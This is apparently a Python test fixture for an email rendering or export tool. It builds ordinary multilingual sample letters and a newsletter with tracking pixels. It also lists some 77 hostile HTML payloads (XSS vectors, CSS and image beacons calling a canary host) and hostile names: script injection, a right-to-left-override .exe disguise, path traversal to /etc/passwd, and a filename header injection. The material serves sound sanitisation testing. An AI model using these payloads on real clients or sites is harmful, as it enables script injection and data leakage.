"""Letters for the tests: ordinary ones in several languages, and the hostile ones."""

# ruff: noqa: E501 (payloads are easier to compare side by side than broken over lines)
from __future__ import annotations

import base64
from email.message import EmailMessage

from .world import Letter

PIXEL = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
)


def message(
    subject: str, html: str = "", text: str = "", files: tuple[tuple[str, bytes], ...] = (), inline: bytes = b""
) -> bytes:
    letter = EmailMessage()
    letter["From"] = "Anna Lindqvist <anna.lindqvist@contoso.example>"
    letter["To"] = "chiara.rossi@contoso.example"
    letter["Subject"] = subject
    letter["Message-ID"] = "<made@contoso.example>"
    letter.set_content(text or "See the HTML part.")
    if html:
        letter.add_alternative(html, subtype="html")
        if inline:
            letter.get_payload()[1].add_related(inline, "image", "png", cid="<logo@contoso>")
    for name, content in files:
        letter.add_attachment(content, maintype="application", subtype="octet-stream", filename=name)
    return letter.as_bytes()


NEWSLETTER = """<html><body><table width="100%" bgcolor="#f2f5f9" cellpadding="16"><tr><td>
<h2 style="color:#0b5394;font-family:Georgia">Moving in the spring: what happens when</h2>
<p>Dear colleagues,</p><p>the new building is ours from <b>1 March</b>. The floor plan is attached; please tell us by Friday which
desks you need. The most important dates:</p>
<table border="1" cellpadding="6" style="border-collapse:collapse"><tr><th>When</th><th>What</th><th>Who</th></tr>
<tr><td>12 February</td><td>Boxes are delivered</td><td>Warehouse</td></tr><tr><td>27 February</td><td>Servers move</td><td>IT</td></tr>
<tr><td>1 March</td><td>First day</td><td>Everybody</td></tr></table>
<p><img src="cid:logo@contoso" width="120" height="40" alt="Contoso"></p>
<p style="color:#566070;font-size:12px">You get this because you work here. <a href="https://news.contoso.example/unsubscribe?id=1">Unsubscribe</a>
<img src="https://track.example/open.gif" width="1" height="1"><img src="https://track.example/banner.png" width="300" height="60" alt="banner"></p>
</td></tr></table></body></html>"""


def ordinary() -> list[Letter]:
    """A mailbox worth a picture; the last letter came with the last run."""
    subjects = [
        ("Minutes of Monday's meeting", "Ben Okafor <ben.okafor@contoso.example>", ("seen",)),
        ("Re: Vertragsentwurf, zweite Fassung", "Georg Huber <georg.huber@contoso.example>", ("seen", "answered")),
        ("請求書の件 (2026年11月)", "佐藤 花 <hana.sato@contoso.example>", ()),
        ("Отчёт за третий квартал", "Дмитрий Волков <dmitri.volkov@contoso.example>", ("seen",)),
        ("عرض أسعار محدث", "نور حداد <noor.haddad@contoso.example>", ()),
        ("Reçu de votre commande nº 40-221", "Inès Moreau <ines.moreau@contoso.example>", ("seen", "flagged")),
        ("Delivery delayed until Thursday", "Warehouse <warehouse@contoso.example>", ("seen",)),
        ("Fwd: photographs of the site", "Jan Kowalski <jan.kowalski@contoso.example>", ("seen",)),
        ("", "kim.nguyen@contoso.example", ()),
        ("Password policy changes on 1 December", "IT <it@contoso.example>", ("seen",)),
        ("Lunch?", "Léa Baumann <lea.baumann@contoso.example>", ("seen", "answered")),
    ]
    rows = [
        Letter(message(subject, text=f"{subject}\n\nMore when we meet."), subject, sender, flags)
        for subject, sender, flags in subjects
    ]
    rows += [Letter(message("Kistenliste", text="123 Kisten"), "Kistenliste", flags=("seen",), folder=3)]
    rows += [Letter(message("Re: Kistenliste", text="124"), "Re: Kistenliste", flags=("seen",), folder=4)]
    rows += [
        Letter(
            b"x" * 300_000,
            "Backup of everything",
            folder=1,
            left_out="item_too_large",
            detail="it has 412 MB; the task takes items up to 150 MB",
        )
    ]
    plan = message(
        "Moving in the spring",
        NEWSLETTER,
        files=(("Floor plan – 2. OG.pdf", b"%PDF-1.7 plan" * 9000), ("席次表.xlsx", b"PK" * 8000)),
        inline=PIXEL,
    )
    return [*rows, Letter(plan, "Moving in the spring: what happens when")]


def hostile_bodies(canary: str) -> list[str]:
    """HTML that would run or call `canary` home in a careless reader. `{c}` is the canary's address."""
    payloads = [
        "<script>fetch('{c}/1')</script>", "<script src='{c}/2'></script>", "<SCRIPT>parent.document.title='owned'</SCRIPT>",
        "<img src=x onerror=\"fetch('{c}/3')\">", "<img src='{c}/4'>", "<img srcset='{c}/5 1x'>", "<picture><source srcset='{c}/6'><img></picture>",
        "<svg onload=\"fetch('{c}/7')\"></svg>", "<svg><script>fetch('{c}/8')</script></svg>", "<svg><image href='{c}/9'/></svg>", "<svg><use href='{c}/10#a'/></svg>",
        "<svg><a xlink:href='javascript:fetch(`{c}/11`)'><text>x</text></a></svg>", "<svg><animate onbegin=\"fetch('{c}/12')\" attributeName=x dur=1s></svg>",
        "<meta http-equiv=refresh content='0;url={c}/13'>", "<meta http-equiv='refresh' content='0; javascript:fetch(`{c}/14`)'>", "<base href='{c}/15/'><img src=rel.png>",
        "<link rel=stylesheet href='{c}/16'>", "<link rel=prefetch href='{c}/17'>", "<link rel=dns-prefetch href='{c}/18'>", "<link rel=preload as=image href='{c}/19'>",
        "<style>@import url('{c}/20');</style>", "<style>body{{background:url({c}/21)}}</style>", "<style>@font-face{{font-family:x;src:url({c}/22)}}p{{font-family:x}}</style><p>x",
        "<p style=\"background:url('{c}/23')\">x</p>", "<p style='background-image:url({c}/24)'>x</p>", "<p style='list-style:url({c}/25)'>x</p>", "<p style='content:url({c}/26)'>x</p>",
        "<p style='cursor:url({c}/27),auto'>x</p>", "<p style='border-image:url({c}/28) 3'>x</p>", "<p style='background:u\\72l({c}/29)'>x</p>", "<p style='color:expression(alert(1))'>x</p>",
        "<table background='{c}/30'><tr><td background='{c}/31'>x</td></tr></table>", "<body background='{c}/32' onload=\"fetch('{c}/33')\">x</body>",
        "<iframe src='{c}/34'></iframe>", "<iframe srcdoc=\"<script>fetch('{c}/35')</script>\"></iframe>", "<iframe src='javascript:fetch(`{c}/36`)'></iframe>", "<frameset><frame src='{c}/37'></frameset>",
        "<object data='{c}/38'></object>", "<embed src='{c}/39'>", "<applet code='{c}/40'></applet>", "<video src='{c}/41' autoplay></video>", "<video poster='{c}/42'></video>", "<audio src='{c}/43' autoplay></audio>",
        "<audio><source src='{c}/44' onerror=\"fetch('{c}/45')\"></audio>", "<track src='{c}/46'>", "<form action='{c}/47'><input autofocus onfocus='this.form.submit()'></form>", "<form action='{c}/48'><button id=go>x</button></form><img src=x onerror='go.click()'>",
        "<input type=image src='{c}/49'>", "<isindex action='{c}/50' type=image src='{c}/51'>", "<button formaction='{c}/52' autofocus onfocus=click()>x</button>", "<a href='javascript:fetch(`{c}/53`)'>x</a>", "<a href='{c}/54' ping='{c}/55'>x</a>",
        "<math href='javascript:fetch(`{c}/56`)'>x</math>", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src={c}/57 onerror=alert(1)&gt;\">", "<noscript><p title=\"</noscript><img src='{c}/58' onerror=alert(1)>\">",
        "<template><img src='{c}/59'></template>", "<details open ontoggle=\"fetch('{c}/60')\">x</details>", "<marquee onstart=\"fetch('{c}/61')\">x</marquee>", "<div onpointerenter=\"fetch('{c}/62')\" style='position:fixed;inset:0'>x</div>",
        "<img src='data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22><image href=%22{c}/63%22/></svg>'>", "<img src='//{h}/64'>", "<img src='\\\\{h}\\65'>", "<img lowsrc='{c}/66' dynsrc='{c}/67'>", "<xss style='behavior:url({c}/68)'>x</xss>",
        "<p hx-get='{c}/69' hx-trigger='load'>x</p>", "<div data-hx-get='/sign-out/' data-hx-trigger='load'>x</div>", "<html manifest='{c}/70'>x</html>", "<a href='vbscript:x'>x</a><img src='vbscript:x'>", "<textarea autofocus onfocus=\"fetch('{c}/71')\"></textarea>",
        "--><img src='{c}/72'><!--", "]]><img src='{c}/73'>", "<title></title><img src='{c}/74' onload=alert(1)>", "<portal src='{c}/75'></portal>", "<dialog open><img src='{c}/76'></dialog>", "<img src=cid:nobody onerror=\"fetch('{c}/77')\">",
    ]  # fmt: skip
    host = canary.split("//")[1]
    return [
        payload.replace("{c}", canary).replace("{h}", host).replace("{{", "{").replace("}}", "}")
        for payload in payloads
    ]


def hostile_names(canary: str) -> list[str]:
    """For subject, sender, folder and file names."""
    return [
        f"<img src='{canary}/s1' onerror=\"fetch('{canary}/s2')\">",
        f"\"><script src='{canary}/s3'></script>",
        f"{{{{ {canary} }}}}<svg onload=fetch('{canary}/s4')>",
        f"<p hx-get='{canary}/s5' hx-trigger='load'>",
        "\u202egnp.exe",
        "../../../../etc/passwd",
        'a"; filename="evil.html',
    ]
